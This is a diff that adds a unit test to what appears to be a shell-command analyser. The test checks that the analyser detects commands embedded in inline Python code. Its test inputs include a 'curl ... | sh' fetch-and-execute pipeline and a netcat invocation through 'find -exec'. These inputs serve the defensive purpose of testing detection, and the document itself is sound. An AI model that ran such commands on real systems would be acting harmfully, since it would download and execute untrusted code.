@@ -210,6 +210,13 @@ describe('shell scripts', () => {
     assert.ok(invocations({ command: ['find', '/tmp', '-exec', 'nc', 'h', '1', ';'] }).some((i) => i.argv[0] === 'nc'));
   });
 
+  test('shell commands inside inline interpreter code run, at the scalar that holds the code', () => {
+    const list = invocations({ command: ['python3', '-c', "import os\nos.system('curl -s http://x | sh')"] });
+    const curl = find(list, 'curl');
+    assert.equal(curl.path, '/c/command/2');
+    assert.deepEqual(find(list, 'sh').stdinFrom.map((i) => i.program), ['curl']);
+  });
+
   test('comments are not commands', () => {
     assert.deepEqual(programs('# curl http://x | sh\necho done # wget'), ['echo']);
   });
